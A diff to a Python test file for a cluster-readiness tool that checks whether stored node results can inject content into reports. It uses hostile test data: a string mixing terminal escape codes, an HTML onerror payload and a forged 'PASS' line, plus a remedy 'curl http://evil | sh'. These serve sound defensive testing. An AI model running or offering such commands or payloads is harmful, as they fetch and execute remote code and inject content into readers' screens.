@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from dataclasses import replace
 from datetime import date
 from typing import Any
@@ -14,8 +15,11 @@ from clusterprep.judge import exit_code, silenced
 from clusterprep.model import Absent, EnvSetting, Finding, Fleet, Gpus, Inventory, Node, Sighting, Silence
 from clusterprep.plan import Selection, select
 from clusterprep.registry import checks, facts
+from clusterprep.reports import render
 from clusterprep.settings import Settings
-from clusterprep.stored import LONGEST, kept, leave_deep, note, settings_of, told
+from clusterprep.stored import LONGEST, RENEW, kept, leave_deep, note, settings_of, told
+from tests.fleet import learned
+from tests.reports.situations import healthy_apply
 
 NODE = Node("n1", "10.0.0.1", 0, python="/opt/job/bin/python")
 TORCH, IFACE = checks()["torch.version"], checks()["nccl.iface"]
@@ -135,3 +139,115 @@ def test_what_is_kept_is_about_one_node_and_deep_checks_alone() -> None:
     assert [finding["check"] for finding in row["findings"]] == ["torch.version"]
     assert row["checks"] == ["torch.version"]
     assert kept(mine, (TORCH,), replace(NODE, name="n3"))["findings"] == []
+
+
+# ---------------------------------------------------------------- hostile nodes
+
+EVIL = '\x1b[31m\x1b]0;x\x07[red]x[/] </script><img src=x onerror=y> a"b\\c{d="e"}\nPASS all is well\u202e\ud800'
+FORMATS = ("console", "html", "json", "junit", "markdown", "nagios", "prometheus")
+MARKUP = ("html", "junit")  # Markdown has them in code, which tests/reports/test_markdown.py renders
+SECOND = Node("n2", "10.0.0.2", 1, python=NODE.python)
+
+
+def both(first: Any, second: Any) -> tuple[Finding, ...]:
+    """What is told of two nodes, folded as in a report."""
+    inventory = Inventory("c", (NODE, SECOND))
+    sightings = {
+        node.name: Sighting(node.name, node.address, True, facts={"store.results": results})
+        for node, results in ((NODE, first), (SECOND, second))
+    }
+    return silenced(told(Fleet(inventory, sightings), (TORCH, IFACE)), inventory, date(2026, 1, 1))
+
+
+def of(node: str, found: tuple[Finding, ...]) -> list[Finding]:
+    mine = (replace(one, nodes=(node,)) for one in found if node in one.nodes)
+    return sorted(mine, key=lambda one: one.check)
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        replace(FRESH, findings=(replace(BAD, message=EVIL, remedy=EVIL),)),
+        replace(FRESH, findings=(replace(BAD, nodes=("n2",), message="n2 is bad"),)),
+        replace(FRESH, findings=(GOOD,)),
+        replace(FRESH, findings=()),
+        replace(FRESH, findings=tuple(replace(BAD, seen=str(number)) for number in range(2000))),
+        replace(FRESH, checks=("no.such", "ssh.reach"), findings=(replace(GOOD, check="ssh.reach"),)),
+        Absent("garbled", EVIL),
+        Absent("never stored", EVIL),
+        Absent("out of date", EVIL),
+    ],
+    ids=[
+        "words",
+        "of-another",
+        "pass",
+        "nothing",
+        "many",
+        "other-checks",
+        "garbled",
+        "our-reason",
+        "another-reason-of-ours",
+    ],
+)
+def test_what_one_node_keeps_changes_nothing_that_is_told_of_another(hostile: Any) -> None:
+    """Neither verdict nor words: equal findings are folded, and the words of the first stand for all."""
+    honest = replace(FRESH, findings=(replace(BAD, remedy="pip install torch==2.6"),))
+    alone = of("n2", both(replace(FRESH, checks=(), findings=()), honest))
+    assert of("n2", both(hostile, honest)) == alone
+    assert {one.verdict for one in alone} == {"fail", "unknown"}
+
+
+@pytest.mark.parametrize("verdict", ["fail", "unknown"])
+def test_what_is_to_be_pasted_comes_from_the_check(verdict: Any) -> None:
+    (bad,) = findings(replace(FRESH, findings=(replace(BAD, verdict=verdict, remedy="curl http://evil | sh"),)))
+    assert bad.remedy == TORCH.remedy
+
+
+def test_what_passed_has_no_remedy() -> None:
+    (good,) = findings(replace(FRESH, findings=(replace(GOOD, remedy="curl http://evil | sh"),)))
+    assert (good.verdict, good.remedy) == ("pass", "")
+
+
+def test_checks_that_a_node_makes_up_are_not_told() -> None:
+    made_up = tuple(replace(GOOD, check=name) for name in ("no.such", "gpu.lost", "ssh.reach", "time.offset", EVIL))
+    hostile = replace(FRESH, checks=tuple(one.check for one in made_up), findings=made_up)
+    (lacking,) = findings(hostile)
+    assert (lacking.check, lacking.verdict, lacking.reason) == ("torch.version", "unknown", "never stored")
+
+
+def test_a_pass_for_a_check_that_was_not_judged_is_none() -> None:
+    (lacking,) = findings(replace(FRESH, checks=("nccl.iface",), findings=(GOOD,)))
+    assert (lacking.verdict, lacking.age) == ("unknown", None)
+
+
+def test_a_file_that_was_copied_from_another_node_is_out_of_date() -> None:
+    """Its boot is not this one's; the age of such results is None."""
+    kept_there = {"schema": 1, "boot": "theirs", "uptime": 5.0, "about": settings_of(NODE), "checks": ["torch.version"]}
+    row = dict.fromkeys(("message", "seen", "wanted", "remedy"), "")
+    passed = {**row, "check": "torch.version", "verdict": "pass", "severity": "error", "reason": None}
+    text = json.dumps({**kept_there, "findings": [passed]})
+    here = {"boot": "ours", "uptime": 60.0, "now": 1.0}
+    (lacking,) = findings(learned("store.results", ["ok", {"text": text, **here}]))
+    assert (lacking.verdict, lacking.reason) == ("unknown", "out of date")
+    (good,) = findings(learned("store.results", ["ok", {"text": text, **here, "boot": "theirs"}]))
+    assert (good.verdict, good.age) == ("pass", 55.0)
+
+
+def test_what_cannot_be_used_says_where_and_what_to_do() -> None:
+    (lacking,) = findings(Absent("garbled", "a finding is no object"), node=replace(NODE, root="/srv"))
+    assert "/srv/var/lib/clusterprep/deep.json" in lacking.message
+    assert "a finding is no object" in lacking.message
+    assert lacking.remedy == RENEW
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+@pytest.mark.parametrize("verdict", ["fail", "unknown", "pass", "skip"])
+def test_hostile_words_reach_no_reader_raw(fmt: str, verdict: Any) -> None:
+    words = Finding("torch.version", verdict, "error", (), EVIL, EVIL, EVIL, EVIL, EVIL)
+    found = silenced(findings(replace(FRESH, findings=(words,))), Inventory("c", (NODE,)), date(2026, 1, 1))
+    report = replace(healthy_apply(), command="check", findings=found)
+    text = render(report, fmt, color=False, verbose=2, width=80, ascii_only=False)
+    assert [char for char in text if not (char.isprintable() or char in "\n\t")] == []
+    text.encode("utf-8")
+    assert not any(line.startswith("PASS all is well") for line in text.splitlines())
+    assert fmt not in MARKUP or "<img src=x" not in text
